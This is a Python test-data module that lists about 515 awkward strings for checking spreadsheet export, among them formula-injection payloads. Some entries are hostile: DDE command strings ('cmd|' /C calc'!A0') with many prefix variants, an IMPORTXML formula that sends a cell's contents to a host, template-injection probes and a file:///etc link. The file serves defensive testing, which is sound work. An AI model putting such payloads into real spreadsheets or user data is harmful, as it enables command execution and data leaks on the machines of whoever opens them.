"""515 texts that somebody may have as a name or give as an answer, and that a spreadsheet would make something of."""

from __future__ import annotations

from itertools import product

_HALF = ("=", "+", "-", "@")
_FULL = ("＝", "＋", "－", "＠", "﹢", "﹣", "﹦", "⁺", "⁻", "⁼", "₌")
_LEADS = ("", " ", "\u3000", "\t", "\n", "\r", "'")
_BODIES = ("1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0")
_FORMULAS = (
    *(f"{lead}{sign}{body}" for lead, sign, body in product(_LEADS, (*_HALF, *_FULL), _BODIES)),
    '=HYPERLINK("http://127.0.0.1","点这里")',
    '=IMPORTXML(CONCAT("http://127.0.0.1/?",A1),"//a")',
    "{=SUM(A1:A3)}",
    "=",
    "==",
    "''=1",
    "甲=1+1",
    "%0A=1+1",
    *(f"{lead}=1+1" for lead in ("\u00a0", "\u2003", "\u200b", "\ufeff", "\u2066")),
    *("﹫1+1", "+86 10", "-甲", "@甲", "=甲"),
)
_LINES = (
    *(
        "甲\n乙",
        "甲\r\n乙",
        "甲\r乙",
        "\n",
        "甲\n",
        "\n\n甲",
        "甲\u2028乙",
        "甲\u2029乙",
        "甲\x0b乙",
        "甲\x0c乙",
        "甲\x85乙",
    ),
    *("甲\t乙", "甲\t", " 甲", "甲 ", " ", "\u3000甲\u3000", "\u200b", "甲\u200d乙"),
)
_QUOTES = (
    *(
        '"',
        '""',
        '"甲"',
        '甲"乙',
        "'",
        "'甲'",
        "甲,乙",
        '甲,"乙\n丙"',
        "甲;乙",
        "“甲”",
        '\\"',
        "\\",
        "\\n",
        '",=1+1,"',
        '"\r\n=1"',
    ),
)
_EMOJI = (
    "😀",
    "👨‍👩‍👧‍👦",
    "🇨🇳",
    "👍🏽",
    "❤️",
    "甲😀",
    "😀" * 40,
    "𠮷野家",
    "𝒜",
    "e\u0301",
    "ẹ́̂",
    "한글",
    "العربية",
    "\u0e01\u0e33",
)
_XML = (
    *(
        "<r>甲</r>",
        "<r><t>甲</t></r>",
        "<r></r>",
        "&amp;",
        "&#10;",
        "&",
        "<",
        ">",
        "]]>",
        "<![CDATA[甲]]>",
        "<!-- 甲 -->",
    ),
    *(
        "_x0041_",
        "_x000D_",
        "_x005F_",
        "_x005F_x0041_",
        "_x0041_x0042_",
        "_x41_",
        "x0041_",
        "__x0041__",
        "\ufffe",
        "\uffff",
    ),
)
_NUMBERS = (
    *(
        "007",
        "1e5",
        "1E400",
        "0x10",
        "3-1",
        "1/2",
        "2026-12-01",
        "12:30",
        "1.10",
        "85.50",
        "1,000",
        "50%",
        "NaN",
        "Infinity",
    ),
    *("TRUE", "#N/A", "#REF!", "110101199003070011", "0", "-0", "-1", "+8613800000000"),
)
_LINKS = (
    "http://127.0.0.1/",
    "mailto:a@b.cn",
    "internal:Sheet1!A1",
    "external:C:\\a.xlsx",
    "ftp://127.0.0.1/",
    "file:///etc",
)
_MARKUP = (
    "[/]",
    "[b]甲[/b]",
    "[@click=app.bell]甲[/]",
    "&C第 &P 页",
    "&[Page]",
    "{title}",
    "%s",
    "${甲}",
    "{{7*7}}",
    "甲\\u0041",
)
_LONG = ("甲" * 10_240, "=" * 10_240, "甲乙\n" * 3_413, '"' * 10_240, "<&>" * 3_413, "=1+1 " * 2_048, "😀" * 5_120)
_UNSEEN = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0), 0x202A, 0x202E, 0x2066, 0x2069, 0xFEFF, 0xAD)))
_CONTROLS = tuple(f"{sign}甲" for sign in _UNSEEN if sign not in "\t\n\r")

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys((*_FORMULAS, *_LINES, *_QUOTES, *_EMOJI, *_XML, *_NUMBERS, *_LINKS, *_MARKUP, *_CONTROLS, *_LONG))
)
"""Each once, as it comes from outside; none has half a character in it."""
